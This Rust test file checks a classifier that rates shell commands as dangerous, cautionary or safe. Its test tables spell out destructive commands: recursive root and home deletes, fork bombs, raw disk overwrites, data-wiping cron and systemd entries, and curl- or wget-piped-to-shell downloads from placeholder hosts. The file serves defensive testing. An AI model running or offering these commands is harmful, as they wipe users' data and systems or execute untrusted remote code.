//! Whole-command examples across the families.

use super::*;

/// Asserts each `(command, level)` of a family's examples table.
pub(crate) fn check_examples(table: &[(&str, RiskLevel)]) {
    let wrong: Vec<String> = table
        .iter()
        .filter_map(|(c, want)| {
            let r = assess(c);
            (r.level != *want)
                .then(|| format!("{c:?}: want {want:?}, got {:?} {:?}", r.level, r.reasons))
        })
        .collect();
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

fn lvl(c: &str) -> RiskLevel {
    assess(c).level
}

#[test]
fn interpreters_running_shell_commands() {
    assert_eq!(lvl(r#"perl -e "system(q{rm -rf /})""#), RiskLevel::Danger);
    assert_eq!(
        lvl(r#"python3 -c "import os; os.system('rm -rf ~')""#),
        RiskLevel::Danger
    );
    assert_eq!(
        lvl(r#"node -e "require('child_process').execSync('mkfs.ext4 /dev/sda')""#),
        RiskLevel::Danger
    );
    // Printing a dangerous string runs nothing.
    assert_eq!(lvl(r#"python3 -c "print('rm -rf /')""#), RiskLevel::Safe);
    assert_eq!(lvl(r#"perl -pe 's/foo/bar/' notes.txt"#), RiskLevel::Safe);
}

#[test]
fn anything_moved_onto_dev_null_is_danger() {
    assert_eq!(lvl("mv ~/.ssh /dev/null"), RiskLevel::Danger);
    assert_eq!(lvl("mv report.txt /dev/null"), RiskLevel::Danger);
    assert_eq!(lvl("mv a.txt b.txt"), RiskLevel::Caution);
}

#[test]
fn recursive_root_deletes_are_danger() {
    for c in [
        "rm -rf /",
        "rm -fr /",
        "rm -r -f /",
        "rm --recursive --force /",
        "rm -Rf /*",
        "sudo rm -rf /",
        "sudo rm -rf --no-preserve-root /",
        "rm -rf / tmp/foo",
        "rm -rf \"/\"",
        "\\rm -rf /",
        "/bin/rm -rf //",
        "rm -rf ~",
        "rm -rf ~/",
        "rm -rf $HOME",
        "rm -rf \"${HOME}\"/*",
        "rm -rf .",
        "rm -rf ..",
        "rm -rf *",
        "rm -rf ./*",
        "rm -rf /etc",
        "rm -rf /usr/lib",
        "rm -rf /home/*",
        "rm -rf \"$STEAMROOT/\"*",
        "sudo -u root rm -rf /var",
        "env FOO=1 nice -n 5 rm -rf /boot",
        "timeout 5 rm -rf /usr",
    ] {
        assert_eq!(lvl(c), RiskLevel::Danger, "{c}");
    }
}

#[test]
fn ordinary_deletes_are_caution() {
    for c in [
        "rm -rf ./build",
        "rm -rf node_modules",
        "rm file.txt",
        "rm -rf /tmp/foo",
        "rm -rf /usr/local/go",
        "sudo rm -rf /var/lib/apt/lists/*",
        "rm -rf \"${BUILD_DIR:?}/\"*",
        "rm -rf $TMPDIR/cache",
    ] {
        assert_eq!(lvl(c), RiskLevel::Caution, "{c}");
    }
}

#[test]
fn quoted_or_searched_text_is_safe() {
    for c in [
        "echo \"rm -rf /\"",
        "grep -r \"rm -rf\" .",
        "find / -name x",
        "printf 'dd if=/dev/zero of=/dev/sda'",
        "# rm -rf /",
        "ls -la /",
        "git log --oneline",
    ] {
        assert_eq!(lvl(c), RiskLevel::Safe, "{c}");
    }
}

#[test]
fn nested_scripts_are_followed() {
    for c in [
        "bash -c 'rm -rf /'",
        "sh -c \"sudo rm -rf ~\"",
        "eval \"rm -rf /\"",
        "echo $(rm -rf /)",
        "x=`rm -rf /`",
        "(cd / && rm -rf *)",
        "ssh host 'rm -rf /'",
        "find / -name '*.log' -delete",
        "find / -type f -exec rm -f {} \\;",
        "find / | xargs rm -rf",
        "bash <<EOF\nrm -rf /\nEOF",
        "if true; then rm -rf /; fi",
    ] {
        assert_eq!(lvl(c), RiskLevel::Danger, "{c}");
    }
}

#[test]
fn download_and_execute() {
    for c in [
        "curl -fsSL https://example.com/install.sh | sh",
        "wget -O- https://x.y/z | sudo bash",
        "bash <(curl -s https://x.y/z)",
        "sh -c \"$(curl -fsSL https://raw.githubusercontent.com/ohmyzsh/ohmyzsh/master/tools/install.sh)\"",
        "curl -sSL https://install.python-poetry.org | python3 -",
    ] {
        assert_eq!(lvl(c), RiskLevel::Danger, "{c}");
    }
    assert_eq!(
        lvl("curl -fsSL https://example.com/a.tar.gz | tar xz"),
        RiskLevel::Safe
    );
}

#[test]
fn disks() {
    assert_eq!(lvl("dd if=/dev/zero of=/dev/sda bs=1M"), RiskLevel::Danger);
    assert_eq!(
        lvl("sudo dd if=ubuntu.iso of=/dev/nvme0n1 status=progress"),
        RiskLevel::Danger
    );
    assert_eq!(
        lvl("dd if=/dev/zero of=./disk.img bs=1M count=100"),
        RiskLevel::Caution
    );
    assert_eq!(lvl("mkfs.ext4 /dev/sdb1"), RiskLevel::Danger);
    assert_eq!(lvl("cat image.iso > /dev/sdb"), RiskLevel::Danger);
    assert_eq!(lvl("fdisk -l"), RiskLevel::Safe);
    assert_eq!(lvl("echo hi > /dev/null"), RiskLevel::Safe);
}

#[test]
fn repairs_are_not_alarms_but_wholesale_find_deletes_are() {
    assert_eq!(lvl("sudo chown root:root /etc/sudoers"), RiskLevel::Caution);
    assert_eq!(lvl("sudo chmod 440 /etc/sudoers"), RiskLevel::Caution);
    assert_eq!(lvl("sudo chown bob /etc/shadow"), RiskLevel::Danger);
    assert_eq!(lvl("find . -type f -delete"), RiskLevel::Danger);
    assert_eq!(
        lvl("find . -type f -name '*.pyc' -delete"),
        RiskLevel::Caution
    );
}

#[test]
fn fork_bombs() {
    assert_eq!(lvl(":(){ :|:& };:"), RiskLevel::Danger);
    assert_eq!(lvl("bomb() { bomb | bomb & }; bomb"), RiskLevel::Danger);
    assert_eq!(lvl("f() { echo hi; }; f"), RiskLevel::Safe);
}

#[test]
fn git_levels() {
    assert_eq!(lvl("git push --force origin main"), RiskLevel::Danger);
    assert_eq!(lvl("git push -f"), RiskLevel::Danger);
    assert_eq!(lvl("git push --force-with-lease"), RiskLevel::Caution);
    // The written policy: discarding uncommitted or ignored work is danger.
    assert_eq!(lvl("git reset --hard HEAD~1"), RiskLevel::Danger);
    assert_eq!(lvl("git clean -fdx"), RiskLevel::Danger);
    assert_eq!(lvl("git reset --hard && git clean -fdx"), RiskLevel::Danger);
    assert_eq!(lvl("git status"), RiskLevel::Safe);
}

#[test]
fn reasons_are_given() {
    let r = assess("rm -rf $HOME");
    assert!(
        r.reasons.iter().any(|s| s.contains("home directory")),
        "{:?}",
        r.reasons
    );
    let r = assess("curl https://x | sh");
    assert!(
        r.reasons.iter().any(|s| s.contains("downloaded script")),
        "{:?}",
        r.reasons
    );
    assert!(assess("ls").reasons.is_empty());
}

#[test]
fn garbage_never_panics() {
    // Deterministic xorshift so the test is reproducible without extra deps.
    let alphabet: Vec<char> = "rm -rf/~$(){}[]'\"`\\|&;<>*?#\n\t=.:!-_abcEOF<<ü€"
        .chars()
        .collect();
    let mut s: u64 = 0x9E37_79B9_7F4A_7C15;
    for _ in 0..20_000 {
        s ^= s << 13;
        s ^= s >> 7;
        s ^= s << 17;
        let len = (s % 40) as usize;
        let mut cmd = String::new();
        let mut t = s;
        for _ in 0..len {
            t = t
                .wrapping_mul(6364136223846793005)
                .wrapping_add(1442695040888963407);
            cmd.push(alphabet[(t >> 33) as usize % alphabet.len()]);
        }
        let _ = assess(&cmd);
    }
    let deep = "$(".repeat(5000);
    let _ = assess(&deep);
    let _ = assess(&"(".repeat(5000));
    let _ = assess("bash -c ".repeat(200).as_str());
}

/// Text written now and run later: by path, by name on the PATH, by cron,
/// by systemd, by make.
#[test]
fn written_then_run() {
    check_examples(&[
        (
            "printf '#!/bin/sh\\nrm -rf /srv/*\\n' | sudo tee /usr/local/bin/tidy >/dev/null; sudo tidy",
            RiskLevel::Danger,
        ),
        (
            "echo 'rm -rf /home/*' | sudo tee /etc/cron.daily/tidy",
            RiskLevel::Danger,
        ),
        (
            "printf '[Service]\\nExecStart=/bin/rm -rf /var/lib/mysql\\n' > /etc/systemd/system/w.service",
            RiskLevel::Danger,
        ),
        (
            "wget -qO /tmp/i.sh https://x.example/i && sh /tmp/i.sh",
            RiskLevel::Danger,
        ),
        (
            "curl -fsSLo inst.sh https://x.example/i; bash inst.sh",
            RiskLevel::Danger,
        ),
        ("\"$SHELL\" -c 'rm -rf ~'", RiskLevel::Danger),
        (
            "echo 'echo hello' | sudo tee /usr/local/bin/hello; hello",
            RiskLevel::Caution,
        ),
        (
            "printf '[Service]\\nExecStart=/usr/bin/python3 -m http.server\\n' > ~/.config/systemd/user/web.service",
            RiskLevel::Safe,
        ),
    ]);
}

/// Wrappers that start the command they are given, however they take it.
#[test]
fn wrappers_run_their_command() {
    check_examples(&[
        ("strace -f -o /tmp/t.log rm -rf ~", RiskLevel::Danger),
        ("ltrace -o /dev/null rm -rf /etc", RiskLevel::Danger),
        ("valgrind --tool=none rm -rf /usr", RiskLevel::Danger),
        ("gdb -batch -ex run --args rm -rf ~", RiskLevel::Danger),
        ("perf stat -e cycles rm -rf /boot", RiskLevel::Danger),
        ("eatmydata rm -rf /var/lib/postgresql", RiskLevel::Danger),
        ("fakeroot rm -rf ~", RiskLevel::Danger),
        (
            "gosu postgres rm -rf /var/lib/postgresql/data",
            RiskLevel::Danger,
        ),
        ("sg docker -c 'docker volume prune -f'", RiskLevel::Danger),
        (
            "sshpass -p secret ssh ops@db 'rm -rf /var/lib/mysql'",
            RiskLevel::Danger,
        ),
        ("xvfb-run -a rm -rf ~", RiskLevel::Danger),
        ("faketime '2020-01-01' rm -rf /etc", RiskLevel::Danger),
        ("numactl --cpunodebind=0 rm -rf /srv", RiskLevel::Danger),
        ("strace -c ls /", RiskLevel::Safe),
        ("valgrind ./a.out", RiskLevel::Safe),
        ("gdb ./a.out", RiskLevel::Safe),
        ("perf stat ls", RiskLevel::Safe),
    ]);
}
